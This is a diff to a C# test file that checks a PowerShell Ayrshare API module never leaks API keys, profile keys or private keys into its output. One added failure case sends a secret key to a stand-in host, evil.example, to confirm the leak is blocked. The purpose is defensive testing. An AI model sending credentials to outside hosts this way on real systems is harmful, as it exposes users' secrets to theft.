@@ -59,6 +59,8 @@ public sealed class SecretSweepTests : IDisposable
     [InlineData("$sandbox.Link('Acme', 'gmb'); $row | New-AyrshareJwt | Wait-AyrshareSocialAccount; $row | Wait-AyrshareSocialAccount | New-AyrshareJwt")]
     [InlineData("Resolve-AyrshareError 146; New-AyrshareJwt -ProfileKey $wrongKey -ErrorAction SilentlyContinue; $Error[0] | Resolve-AyrshareError")]
     [InlineData("Disconnect-Ayrshare")]
+    [InlineData("$row | Invoke-AyrshareApi history @x; Invoke-AyrshareApi user -ProfileKey $key -Raw")]
+    [InlineData("Invoke-AyrshareApi profiles -Method Patch -Body @{ subHeader = 'x'; profileKey = $key; privateKey = $pem } -Query @{ profileKey = $key } -ProfileKeySecret key")]
     [InlineData("[pscustomobject]@{ Title = 'Berta'; Email = 'b@c.example' } | Invoke-AyrshareOnboarding -Vault Company -JournalPath $journal -SendEmail; Get-AyrshareOnboarding $journal")]
     public void In_success(string command) => AssertClean(command);
 
@@ -104,6 +106,13 @@ public sealed class SecretSweepTests : IDisposable
     [InlineData("$row | Invoke-AyrshareOnboarding -Vault Company -JournalPath $journal; $row | Invoke-AyrshareOnboarding -Vault Locked -JournalPath $journal")]
     [InlineData("$row | Invoke-AyrshareOnboarding -Vault Failing -JournalPath $journal; Get-AyrshareOnboarding $wrongPath")]
     [InlineData("$sandbox.AddFault(@{ Kind = 'EchoSecrets' }); [pscustomobject]@{ Title = 'Berta' } | Invoke-AyrshareOnboarding -Vault Company -JournalPath $journal")]
+    [InlineData("Invoke-AyrshareApi https://evil.example/api/user?key=$key; Invoke-AyrshareApi \"user?profileKey=$key\"")]
+    [InlineData("Invoke-AyrshareApi post -Method Post -Body \"{ 'profileKey': '$key'\"; Invoke-AyrshareApi post -Method Post -Body $pem")]
+    [InlineData("$row | Invoke-AyrshareApi post -Method Post -Body @{ privateKey = $pem; a = { $key } }; $row | Invoke-AyrshareApi history -Query @{ profileKey = @{ $key = 1 } }")]
+    [InlineData("[pscustomobject]@{ ProfileKey = $wrongKey } | Invoke-AyrshareApi history; Invoke-AyrshareApi user -ProfileKey $apiKey")]
+    [InlineData("$row | Invoke-AyrshareApi nosuch -Method Post -Body @{ profileKey = $wrongKey; privateKey = $pem } @x")]
+    [InlineData("$sandbox.AddFault(@{ Kind = 'EchoSecrets' }); Invoke-AyrshareApi user -Method Post -Query @{ profileKey = $key } -Body @{ profileKeys = $key, $wrongKey; nested = @{ twitterApiSecret = $xSecret } }")]
+    [InlineData("$sandbox.AddFault(@{ Kind = 'EchoSecrets' }); Invoke-AyrshareApi user -Method Post -Body ('{ \"profileKey\": \"' + $key + '\" }')")]
     [InlineData("Start-AyrshareSandbox -ApiKey $apiKey -PrivateKey ($pem -replace 'A', '')")]
     [InlineData("Start-AyrshareSandbox -ApiKey $apiKey -Port $sandbox.BaseUri.Port")]
     public void In_failure(string command)
@@ -142,8 +151,20 @@ public sealed class SecretSweepTests : IDisposable
             "Test-AyrshareConnection -ProfileKey $key",
             "$row | Wait-AyrshareSocialAccount -TimeoutSec 10",
             "Resolve-AyrshareError 146",
+            "$row | Invoke-AyrshareApi history @x",
+            "$row | Invoke-AyrshareApi profiles -Method Patch -Body @{ subHeader = 'x'; profileKey = $key; privateKey = $pem } @x",
         })
             AssertClean(command);
+    }
+
+    [Fact]
+    public void A_new_key_that_was_asked_for_is_in_the_output_alone()
+    {
+        var result = _session.Run("$VerbosePreference = 'Continue'; $DebugPreference = 'Continue'; Invoke-AyrshareApi profiles -Method Post -Body @{ title = 'Raw' }").ThrowIfFailed();
+
+        var key = (string)result.Only.Properties["profileKey"].Value;
+        Assert.Equal(key, $"{_session.Run("($sandbox.Profiles | Where-Object Title -eq Raw).ProfileKey").Only}");
+        AssertWithout([.. Secrets, key], result.Everything());
     }
 
     [Fact]
